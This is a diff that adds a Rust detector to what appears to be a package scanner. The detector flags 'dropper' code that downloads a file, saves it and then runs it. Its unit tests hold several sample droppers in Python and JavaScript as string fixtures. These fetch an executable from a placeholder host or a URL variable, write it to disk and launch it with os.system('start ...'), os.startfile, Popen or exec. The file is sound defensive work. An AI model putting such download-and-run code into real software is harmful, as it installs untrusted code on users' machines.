@@ -1,0 +1,257 @@
+//! The binary dropper: a download saved to a file that the same code then starts (`os.startfile`,
+//! `os.system("start " + p)`, `Popen([p])`, `child_process.execFile(p)`, `chmod +x p && ./p`).
+//!
+//! A file is "the same" when the run names it as its program: the saved literal's file name, or the
+//! variable that held the path, as the first word of the command once launchers (`start`, `cmd /c`,
+//! `sudo`, `nohup`, `wine`, `chmod +x`) and path builders (`os.getcwd()+`, `os.path.join`) are skipped.
+//! A saved file that is never run, or run only as an argument of another program (`git add p`), is not a
+//! dropper; nor is a download checked against a pinned digest. Flows the taint engine already reports
+//! (TNT003) are left to it.
+
+use super::taint::{flows, FlowKind};
+use super::write_run::{calls, names_file, runs_program, writes, Key, MAX_SEGMENT_BYTES};
+use super::FileDetector;
+use crate::ascii_classes::ascii_regex;
+use crate::matchers::{Hit, HitDetail};
+use crate::segment::Segment;
+use regex::Regex;
+use std::sync::LazyLock;
+
+pub(crate) static DOWNLOAD_WRITE_RUN: FileDetector = FileDetector {
+    literals: &[
+        "urlopen",
+        "urlretrieve",
+        "requests",
+        "urllib",
+        "httpx",
+        "wget",
+        "fetch(",
+        "https",
+        "http.get",
+        "axios",
+    ],
+    run: report_droppers,
+};
+
+// Constant patterns (their tests compile them): `expect` never sees scanned data.
+#[allow(clippy::expect_used)]
+static DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
+    ascii_regex(concat!(
+        r"\b(?:requests|httpx|session|sess|s|client)\.(?:get|request)\s*\(|\burlopen\s*\(|\burlretrieve\s*\(",
+        r"|\bwget\.download\s*\(|\bhttps?\.get\s*\(|\bfetch\s*\(|\baxios(?:\.get)?\s*\(|\.iter_content\s*\("
+    ))
+    .expect("download pattern")
+});
+#[allow(clippy::expect_used)]
+static PINNED_DIGEST: LazyLock<Regex> = LazyLock::new(|| {
+    ascii_regex(r"(?i)\bhashlib\b|createHash\s*\(|\bsha256\b|\bchecksum\b|hexdigest\s*\(")
+        .expect("digest pattern")
+});
+/// String prefixes (`f"`, `rb'`) dropped before a command is read word by word.
+#[allow(clippy::expect_used)]
+static STRING_PREFIX: LazyLock<Regex> =
+    LazyLock::new(|| ascii_regex(r#"\b[fFrRbBuU]{1,2}(["'])"#).expect("prefix pattern"));
+
+/// Words before the program in a command line: launchers and their switches.
+const LAUNCHERS: &[&str] = &[
+    "start",
+    "cmd",
+    "cmd.exe",
+    "/c",
+    "/k",
+    "/b",
+    "/min",
+    "/wait",
+    "sudo",
+    "nohup",
+    "sh",
+    "bash",
+    "wine",
+    "powershell",
+    "powershell.exe",
+    "-command",
+    "start-process",
+    "-filepath",
+    "chmod",
+    "+x",
+    "777",
+    "755",
+    "0o755",
+    "0o777",
+    "u+x",
+    "a+x",
+    "&&",
+    ";",
+    "&",
+    "./",
+    "-c",
+    "exec",
+];
+/// Parts of an expression that build a directory in front of the file name.
+const PATH_BUILDERS: &[&str] = &[
+    "getcwd",
+    "join",
+    "gettempdir",
+    "getenv",
+    "environ",
+    "expanduser",
+    "dirname",
+    "tmpdir",
+    "homedir",
+    "cwd",
+    "%",
+    "resolve",
+    "path",
+    "os",
+    "temp",
+    "appdata",
+];
+
+fn report_droppers(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
+    let body = segment.text(text);
+    if body.len() > MAX_SEGMENT_BYTES || PINNED_DIGEST.is_match(body) {
+        return;
+    }
+    let Some(first_download) = DOWNLOAD.find(body).map(|m| m.start()) else {
+        return;
+    };
+    let all = calls(body);
+    let saved = writes(body, &all);
+    let mut reported = std::collections::HashSet::new();
+    for write in &saved {
+        // A literal written to the file is code the package carries (the stager's business).
+        if write.literal.is_some() {
+            continue;
+        }
+        let runs = all.iter().filter(|c| {
+            c.start > write.at
+                && (write.downloads || first_download < c.start)
+                && runs_program(&c.name)
+        });
+        for run in runs {
+            let Some(key) = write.keys.iter().find(|k| runs_as_program(&run.args, k)) else {
+                continue;
+            };
+            let taint_reports = || {
+                flows(segment, text).flows.iter().any(|f| {
+                    f.kind == FlowKind::DownloadToExec && f.sink.0 < run.end && run.start < f.sink.1
+                })
+            };
+            if !reported.insert(run.start) || taint_reports() {
+                continue;
+            }
+            let named = match key {
+                Key::File(file) => file.clone(),
+                Key::Name(name) => format!("the path in `{name}`"),
+            };
+            let hit = Hit {
+                start: segment.start + run.start,
+                end: segment.start + run.end,
+                detail: Some(Box::new(HitDetail {
+                    message: format!(
+                        "a download is saved as {named}, which `{}` then runs",
+                        run.name
+                    ),
+                    related: vec![
+                        (segment.start + first_download, "the download".to_string()),
+                        (
+                            segment.start + write.at,
+                            "written to a file here".to_string(),
+                        ),
+                    ],
+                })),
+            };
+            if !keep(hit) {
+                return;
+            }
+        }
+    }
+}
+
+/// Whether the command `args` runs the file `key` names as its program.
+fn runs_as_program(args: &str, key: &Key) -> bool {
+    let plain = STRING_PREFIX.replace_all(args, "$1");
+    let words = plain
+        .split(|c: char| {
+            c.is_whitespace()
+                || matches!(
+                    c,
+                    '"' | '\'' | '`' | '[' | ']' | '(' | ')' | '{' | '}' | '+' | ','
+                )
+        })
+        .filter(|w| !w.is_empty());
+    for word in words {
+        let named = match key {
+            Key::File(_) => names_file(word, key),
+            Key::Name(name) => word == name || word.starts_with(&format!("{name}.")),
+        };
+        if named {
+            return true;
+        }
+        let lower = word.to_ascii_lowercase();
+        let skip = LAUNCHERS.contains(&lower.as_str())
+            || PATH_BUILDERS.iter().any(|b| lower.contains(b))
+            || lower.contains('=')
+            || lower.chars().all(|c| !c.is_alphanumeric());
+        if !skip {
+            return false;
+        }
+    }
+    false
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::segment::segment_file;
+    use skill_scan_model::Language;
+
+    fn fired(text: &str, language: Language, path: &str) -> Vec<String> {
+        let mut out = Vec::new();
+        for segment in segment_file(text, language, path) {
+            (DOWNLOAD_WRITE_RUN.run)(&segment, text, &mut |hit| {
+                out.push(hit.detail.map(|d| d.message).unwrap_or_default());
+                true
+            });
+        }
+        out
+    }
+
+    #[test]
+    fn windows_droppers_fire() {
+        let start = "import os, requests\nr = requests.get('https://cdn.example.invalid/tool.exe')\nwith open('C:\\\\Users\\\\Public\\\\helper.exe', 'wb') as f:\n    f.write(r.content)\nos.system('start cmd /c start C:\\\\Users\\\\Public\\\\helper.exe')\n";
+        assert_eq!(fired(start, Language::Python, "pkg/main.py").len(), 1);
+        let startfile = "import os, urllib.request\nurllib.request.urlretrieve('https://cdn.example.invalid/u.scr', 'update.scr')\nos.startfile(os.getcwd() + '\\\\update.scr')\n";
+        assert_eq!(fired(startfile, Language::Python, "setup.py").len(), 1);
+        let alias = "from subprocess import run\nimport urllib.request\nurllib.request.urlretrieve(u, 'svc.exe')\nrun(['start', 'svc.exe'], shell=True)\n";
+        assert_eq!(fired(alias, Language::Python, "setup.py").len(), 1);
+        let temp = "import requests, tempfile, subprocess\nr = requests.get(u)\nwith tempfile.NamedTemporaryFile(delete=False) as t:\n    t.write(r.content)\n    exe_path = t.name\nsubprocess.call([exe_path])\n";
+        assert_eq!(fired(temp, Language::Python, "pkg/run.py").len(), 1);
+    }
+
+    #[test]
+    fn path_variables_and_javascript_fire() {
+        // The taint engine follows `p` itself (TNT003); the same file spelled out again is ours.
+        let tainted = "import os, requests, tempfile\np = os.path.join(tempfile.gettempdir(), 'a.bin')\ndata = requests.get(url).content\nopen(p, 'wb').write(data)\nos.system('start ' + p)\n";
+        assert!(fired(tainted, Language::Python, "pkg/__init__.py").is_empty());
+        let py = "import os, requests, subprocess\ndest = os.path.join(os.environ['APPDATA'], 'svc.exe')\nwith open(dest, 'wb') as f:\n    f.write(requests.get(u).content)\nsubprocess.Popen([os.path.join(os.environ['APPDATA'], 'svc.exe')])\n";
+        assert_eq!(fired(py, Language::Python, "pkg/__init__.py").len(), 1);
+        let js = "const cp = require('child_process');\nconst fs = require('fs');\nasync function go(dest) {\n  const res = await fetch(u);\n  fs.writeFileSync(dest, Buffer.from(await res.arrayBuffer()));\n  cp.execFile(dest);\n}\n";
+        assert!(
+            fired(js, Language::Javascript, "index.js").is_empty(),
+            "TNT003 reports it"
+        );
+        let start = "const { exec } = require('child_process');\nconst fs = require('fs');\nhttps.get(u, (res) => {\n  res.pipe(fs.createWriteStream('C:\\\\Temp\\\\svc.exe')).on('finish', () => exec('start C:\\\\Temp\\\\svc.exe'));\n});\n";
+        assert_eq!(fired(start, Language::Javascript, "index.js").len(), 1);
+    }
+
+    #[test]
+    fn saved_but_not_run_hashed_or_used_as_an_argument_is_quiet() {
+        let saved = "import requests\nr = requests.get(u)\nwith open('report.pdf', 'wb') as f:\n    f.write(r.content)\nprint('saved')\n";
+        assert!(fired(saved, Language::Python, "cli.py").is_empty());
+        let argument = "import subprocess, requests\nr = requests.get(u)\nopen('config.json', 'wb').write(r.content)\nsubprocess.run(['git', 'add', 'config.json'])\n";
+        assert!(fired(argument, Language::Python, "sync.py").is_empty());
+        let pinned = "import hashlib, subprocess, urllib.request\nurllib.request.urlretrieve(u, 'tool')\nif hashlib.sha256(open('tool','rb').read()).hexdigest() != PIN: raise SystemExit\nsubprocess.run(['./tool', '--version'])\n";
+        assert!(fired(pinned, Language::Python, "build.py").is_empty());
+    }
+}
